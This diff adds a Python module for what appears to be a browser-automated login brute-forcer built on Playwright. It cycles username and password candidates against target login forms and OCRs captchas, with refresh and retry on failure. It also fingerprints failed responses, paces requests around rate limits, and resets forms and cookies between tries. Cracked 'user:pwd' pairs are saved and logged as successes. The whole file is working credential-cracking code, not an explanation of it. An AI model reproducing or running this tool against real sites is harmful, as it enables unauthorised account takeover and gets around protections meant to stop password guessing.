@@ -0,0 +1,384 @@
+import time
+import config
+from utils import logger, save_result, log_attempt
+from checkpoint import checkpoints
+from candidates import CandidateSource, size_hint
+from metrics import metrics
+from fingerprint import Baseline, baseline_problem, bogus_credentials
+from rate_control import TargetController, StatusWatch
+from form_reset import target_policy
+from tracing import slow_traces
+
+PASSWORD_FIELD = "input[type='password']"
+
+def run_flow(flow, ops):
+    """Runs a login flow on the sync engine.
+
+    Flows are generators that yield ``(step, *args)`` for every Playwright
+    call. The step runs as ``ops.step(*args)`` and its result, or the
+    exception it raised, is sent back into the flow. This keeps one copy
+    of the attempt logic for both engines; see ``run_flow_async``.
+    """
+    result, error = None, None
+    while True:
+        try:
+            step = flow.throw(error) if error is not None else flow.send(result)
+        except StopIteration as stop:
+            return stop.value
+        result, error = None, None
+        try:
+            result = getattr(ops, step[0])(*step[1:])
+        except BaseException as e:
+            error = e
+
+async def run_flow_async(flow, ops):
+    result, error = None, None
+    while True:
+        try:
+            step = flow.throw(error) if error is not None else flow.send(result)
+        except StopIteration as stop:
+            return stop.value
+        result, error = None, None
+        try:
+            result = await getattr(ops, step[0])(*step[1:])
+        except BaseException as e:
+            error = e
+
+def locate_elements(page, selectors):
+    return page.locator(selectors["user"]).first, page.locator(selectors["pass"]).first, page.locator(selectors["submit"]).first
+
+def locate_captcha(page, selectors):
+    if not selectors.get("captcha_img"):
+        return None, None
+    captcha_input = page.locator(selectors["captcha_input"]).first if selectors.get("captcha_input") else None
+    return page.locator(selectors["captcha_img"]).first, captcha_input
+
+def prepare_target(target, run_key):
+    with target.lock:
+        if "done" not in target.data:
+            target.data["done"] = checkpoints.load_target(run_key, target.url) if run_key else {}
+            target.data["controller"] = TargetController(target.url)
+            if target.data["done"]:
+                logger.info(f"[Checkpoint] [{target.url}] Resuming, {sum(len(r) for r in target.data['done'].values())} attempts already done")
+        return target.data
+
+def goto(url):
+    with metrics.timer("complex", "goto", url):
+        yield "goto", url
+    with metrics.timer("complex", "networkidle", url):
+        yield "wait_load", "networkidle"
+
+def discover(url):
+    with metrics.timer("complex", "discover", url):
+        return (yield "discover", url)
+
+def refresh_elements(ops, url, elements):
+    yield from goto(url)
+    selectors = yield from discover(url)
+    return locate_elements(ops.page, selectors) if selectors else elements
+
+def form_ready(ops, form_url, elements, timeout=500):
+    return ops.page.url == form_url and (yield "form_ready", elements, timeout)
+
+def reset_form(ops, url, form_url, elements, policy):
+    strategy = policy.strategy
+    start = time.perf_counter()
+    if strategy == "inplace" and not (yield from form_ready(ops, form_url, elements)):
+        policy.demote(strategy, "form not reusable in place")
+        strategy = "soft"
+    if strategy == "soft":
+        yield "clear_cookies",
+        with metrics.timer("complex", "goto", url):
+            yield "goto", url, "domcontentloaded"
+        if not (yield from form_ready(ops, form_url, elements, config.FORM_RESET_READY_TIMEOUT_MS)):
+            policy.demote(strategy, "form not ready after DOMContentLoaded")
+            strategy = "hard"
+    if strategy == "hard":
+        yield "clear_cookies",
+        yield from goto(url)
+    policy.record(strategy, (time.perf_counter() - start) * 1000)
+    metrics.inc("form_resets_total", mode="complex", strategy=strategy)
+    return strategy
+
+def judge_keywords(url, current_url, page_content, has_password_field):
+    page_content = page_content.lower()
+    has_error = any(k.lower() in page_content for k in config.ERROR_KEYWORDS) and len(page_content) < 5000
+    has_success_keyword = any(k.lower() in page_content for k in config.SUCCESS_KEYWORDS)
+    is_url_changed = current_url != url and "login" not in current_url.lower()
+    if (has_success_keyword and not has_error) or (is_url_changed and not has_password_field and not has_error):
+        if "error" in current_url.lower() or "fail" in current_url.lower():
+            log_attempt(url, "[%s] URL contains error keyword, judged as failed", url)
+            return False, is_url_changed, has_error
+        return True, is_url_changed, has_error
+    if has_error:
+        log_attempt(url, "[%s] Page contains error keyword, judged as failed", url)
+    return False, is_url_changed, has_error
+
+def keyword_judge(ops, url):
+    current_url = ops.page.url
+    has_password_field = (yield "count", PASSWORD_FIELD) > 0
+    page_content = yield "content",
+    return judge_keywords(url, current_url, page_content, has_password_field)
+
+def judge_baseline(url, baseline, fp):
+    success = baseline.judge(fp)
+    if not success:
+        log_attempt(url, "[%s] Response matches failure baseline, judged as failed", url)
+    return success, fp.location != baseline.fp.location, not success
+
+def baseline_judge(url, baseline, status=None):
+    fp = yield "fingerprint",
+    fp.status = status
+    return judge_baseline(url, baseline, fp)
+
+def baseline_from(samples, url):
+    if len(samples) < config.BASELINE_SAMPLES:
+        return None
+    problem = baseline_problem(samples)
+    if problem:
+        logger.warning(f"[{url}] Unusable baseline ({problem}), falling back to keyword detection")
+        return None
+    return Baseline(samples)
+
+def probe_baseline(url, elements, watch):
+    user_input, pass_input, login_btn = elements
+    samples = []
+    try:
+        for _ in range(config.BASELINE_SAMPLES):
+            user, pwd = bogus_credentials()
+            if not (yield "fill", user_input, user) or not (yield "fill", pass_input, pwd):
+                break
+            mark = yield "mark_outcome",
+            watch.take()
+            yield "click", login_btn, 3000
+            yield "wait_outcome", url, mark
+            fp = yield "fingerprint",
+            fp.status = watch.status
+            samples.append(fp)
+            yield "clear_cookies",
+            yield from goto(url)
+    except Exception as e:
+        logger.warning(f"[{url}] Baseline probe failed, falling back to keyword detection: {e}")
+        samples = []
+        try:
+            yield from goto(url)
+        except Exception:
+            pass
+    return baseline_from(samples, url)
+
+def target_baseline(target, elements, watch):
+    yield "lock", target
+    try:
+        if "baseline" not in target.data:
+            with metrics.timer("complex", "baseline", target.url):
+                baseline = yield from probe_baseline(target.url, elements, watch)
+            target.data["baseline"] = baseline
+            if baseline:
+                logger.info(f"[{target.url}] Baseline fingerprint: {baseline.as_dict()}")
+        return target.data["baseline"]
+    finally:
+        yield "unlock", target
+
+def start_tracing():
+    if not slow_traces.active:
+        return False
+    try:
+        yield "trace_start",
+        return True
+    except Exception as e:
+        logger.debug(f"Cannot start Playwright tracing: {e}")
+        return False
+
+def stop_tracing():
+    try:
+        yield "trace_stop",
+    except Exception as e:
+        logger.debug(f"Cannot stop Playwright tracing: {e}")
+
+def begin_attempt_trace(url, user):
+    try:
+        yield "trace_chunk", f"{url} {user}"
+    except Exception as e:
+        logger.debug(f"[{url}] Cannot start Playwright trace chunk: {e}")
+
+def trace_attempt(url, seconds):
+    try:
+        path = slow_traces.path_for(url, seconds) if slow_traces.qualifies(seconds) else None
+        yield "trace_chunk_end", path
+        if path:
+            slow_traces.keep(seconds, path)
+    except Exception as e:
+        logger.debug(f"[{url}] Cannot save Playwright trace: {e}")
+
+def fill_captcha(url, captcha_img, captcha_input):
+    code = yield "captcha", captcha_img
+    if code:
+        logger.info(f"[{url}] Fill captcha: {code}")
+        yield "fill", captcha_input, code
+        return
+    logger.warning(f"[{url}] OCR result empty, try refresh...")
+    try:
+        yield "click", captcha_img, 1000
+        yield "wait", 500
+        code = yield "captcha", captcha_img
+        if code:
+            logger.info(f"[{url}] After refresh fill captcha: {code}")
+            yield "fill", captcha_input, code
+    except Exception:
+        pass
+
+def crack_chunk(ops, task, usernames, passwords, results, run_key, should_stop):
+    """One scheduler chunk of browser attempts on ``ops.page``."""
+    target = task.target
+    if should_stop() or target.cancelled.is_set():
+        return
+    state = yield "blocking", prepare_target, target, run_key
+    logger.info(f"[Processing] Start: {target.url} (candidates {task.lo}-{task.hi})")
+    source = CandidateSource(usernames, passwords)
+    settled = 0
+    watch = StatusWatch()
+    ops.page.on("response", watch)
+    sampling = yield from start_tracing()
+    try:
+        candidates = source.slice(task.user, task.lo, task.hi)
+        settled = yield from process_target(ops, target, candidates, passwords, results, run_key, state["done"], watch, sampling, should_stop)
+    finally:
+        ops.page.remove_listener("response", watch)
+        if sampling:
+            yield from stop_tracing()
+        if settled < source.size(task.user, task.lo, task.hi) and not target.found:
+            state["incomplete"] = True
+
+def process_target(ops, target, candidates, passwords, results, run_key, done, watch, sampling, should_stop):
+    page = ops.page
+    url = target.url
+    try:
+        if should_stop():
+            return 0
+        load_start = time.perf_counter()
+        yield from goto(url)
+    except Exception as e:
+        logger.warning(f"Page load timeout or failed {url}: {e}")
+        metrics.error("complex", e)
+        return 0
+    selectors = yield from discover(url)
+    if not selectors:
+        logger.warning(f"Cannot locate login elements, skipping: {url}")
+        return 0
+    elements = locate_elements(page, selectors)
+    captcha_img, captcha_input = locate_captcha(page, selectors)
+    baseline = None
+    if config.BASELINE_DETECTION and not captcha_img:
+        baseline = yield from target_baseline(target, elements, watch)
+    controller = target.data["controller"]
+    policy = target_policy(target, captcha_img is not None)
+    policy.observe_load((time.perf_counter() - load_start) * 1000)
+    form_url = page.url
+    last_reset = "hard"
+    hint = size_hint(passwords)
+    settled = 0
+    for user, i, pwd in candidates:
+        if should_stop() or target.cancelled.is_set():
+            break
+        skip = done.get(user)
+        if skip and i in skip:
+            settled += 1
+            continue
+        if sampling:
+            yield from begin_attempt_trace(url, user)
+        started = time.perf_counter()
+        try:
+            log_attempt(url, "[%s] Trying: %s:%s (%d/%s)", url, user, pwd, i + 1, hint)
+            is_login_page = "login" in page.url.lower() or (yield "count", PASSWORD_FIELD) > 0
+            if not is_login_page:
+                logger.debug(f"[{url}] Not on login page, trying to reset...")
+                policy.demote(last_reset, "left the login page")
+                yield from goto(url)
+                last_reset = "hard"
+            with metrics.timer("complex", "fill", url):
+                if not (yield "fill", elements[0], user):
+                    logger.warning(f"[{url}] Input not available, trying to refresh...")
+                    policy.demote(last_reset, "inputs not fillable")
+                    last_reset = "hard"
+                    elements = yield from refresh_elements(ops, url, elements)
+                    if not (yield "fill", elements[0], user):
+                        metrics.attempt("complex", "skipped")
+                        continue
+                if not (yield "fill", elements[1], pwd):
+                    policy.demote(last_reset, "inputs not fillable")
+                    last_reset = "hard"
+                    elements = yield from refresh_elements(ops, url, elements)
+                    yield "fill", elements[0], user
+                    if not (yield "fill", elements[1], pwd):
+                        metrics.attempt("complex", "skipped")
+                        continue
+            if captcha_img and captcha_input:
+                with metrics.timer("complex", "captcha", url):
+                    yield from fill_captcha(url, captcha_img, captcha_input)
+            with metrics.timer("complex", "pacing", url):
+                sent = yield "acquire", controller
+            try:
+                with metrics.timer("complex", "click", url):
+                    mark = yield "mark_outcome",
+                    try:
+                        yield "click", elements[2], 3000
+                    except Exception:
+                        yield "dispatch_click", elements[2]
+                with metrics.timer("complex", "outcome_wait", url):
+                    signal = yield "wait_outcome", url, mark
+            except Exception as e:
+                controller.release(sent, "timeout" if isinstance(e, ops.TimeoutError) else "error")
+                raise
+            status = watch.status
+            outcome, wait = watch.take()
+            controller.release(sent, outcome, wait)
+            policy.outcome(last_reset, signal)
+            if outcome != "ok":
+                metrics.inc("rate_events_total", mode="complex", outcome=outcome)
+            with metrics.timer("complex", "judge", url):
+                if baseline:
+                    success, is_url_changed, has_error = yield from baseline_judge(url, baseline, status)
+                else:
+                    success, is_url_changed, has_error = yield from keyword_judge(ops, url)
+            if success and outcome != "ok":
+                log_attempt(url, "[%s] Response was %s (HTTP %s), judged as failed", url, outcome, status)
+                success, has_error = False, True
+            if success:
+                metrics.attempt("complex", "success")
+                save_result(url, user, pwd, results)
+                logger.info(f"[SUCCESS] Simulated login success: {url} -> {user}:{pwd}")
+                target.found = True
+                if config.STOP_ON_SUCCESS:
+                    target.cancel()
+                    break
+            else:
+                metrics.attempt("complex", "failure")
+            if run_key:
+                checkpoints.mark(run_key, url, user, i)
+            settled += 1
+            if not is_url_changed or has_error:
+                logger.debug(f"[{url}] Login failed, reset state...")
+                try:
+                    with metrics.timer("complex", "reset", url):
+                        last_reset = yield from reset_form(ops, url, form_url, elements, policy)
+                except Exception as e:
+                    logger.error(f"[{url}] Reset failed: {e}")
+                    metrics.error("complex", e)
+                    last_reset = "hard"
+            else:
+                last_reset = "hard"
+        except Exception as e:
+            logger.error(f"[{url}] Crack process error: {e}")
+            metrics.attempt("complex", "error")
+            metrics.error("complex", e)
+            last_reset = "hard"
+            try:
+                yield from goto(url)
+            except Exception:
+                pass
+        finally:
+            elapsed = time.perf_counter() - started
+            metrics.observe("complex", "attempt", elapsed, url)
+            if sampling:
+                yield from trace_attempt(url, elapsed)
+    return settled